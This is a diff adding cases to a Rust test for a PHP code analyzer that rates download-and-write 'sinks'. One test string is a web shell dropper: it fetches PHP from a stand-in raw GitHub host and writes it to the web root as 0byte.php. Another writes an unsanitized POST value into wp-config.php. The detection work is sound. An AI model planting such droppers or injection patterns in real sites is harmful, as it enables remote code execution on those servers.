@@ -540,6 +540,21 @@ fn another_sites_text_saved_as_a_php_file_is_downloaded_code_whatever_the_file_c
     // A page or a feed fetched and cached as data is not code.
     let cache = "<?php $f = file_get_contents('https://feeds.example/news.xml'); file_put_contents(__DIR__ . '/cache/news.xml', $f);";
     assert!(sinks(cache).is_empty(), "{:?}", sinks(cache));
+    // fresh73's shell summoner: the file opened for writing under a PHP name, then written
+    // (the name is kept with the handle); the feed's cache written so stays data.
+    let summon = "<?php $src = 'https://raw.githubusercontent.example/u/r/master/s.php'; $got = file_get_contents($src); \
+                  $h = fopen($_SERVER['DOCUMENT_ROOT'] . '/0byte.php', 'w'); fwrite($h, $got);";
+    assert_eq!(sinks(summon), [(Why::CodeFromInternet, Danger::High)]);
+    let feed = "<?php $f = file_get_contents('https://feeds.example/news.xml'); $h = fopen(__DIR__ . '/news.xml', 'w'); fwrite($h, $f);";
+    assert!(sinks(feed).iter().all(|(_, d)| *d < Danger::Medium), "{:?}", sinks(feed));
+    // A log appended to, and an installer writing the settings it was sent line by line.
+    let log = summon.replace("'w'", "'a'");
+    assert!(sinks(&log).iter().all(|(_, d)| *d < Danger::Medium), "{:?}", sinks(&log));
+    let installer = "<?php $lines = file(__DIR__ . '/wp-config-sample.php'); $lines[] = \"define('DB_PASSWORD', '{$_POST['pwd']}');\"; \
+                     $h = fopen(__DIR__ . '/wp-config.php', 'w'); foreach ($lines as $line) { fwrite($h, $line); }";
+    assert!(sinks(installer).iter().all(|(_, d)| *d < Danger::Medium), "{:?}", sinks(installer));
+    let read = summon.replace("'w'", "'r'");
+    assert!(sinks(&read).iter().all(|(_, d)| *d < Danger::Medium), "{:?}", sinks(&read));
 }
 
 #[test]
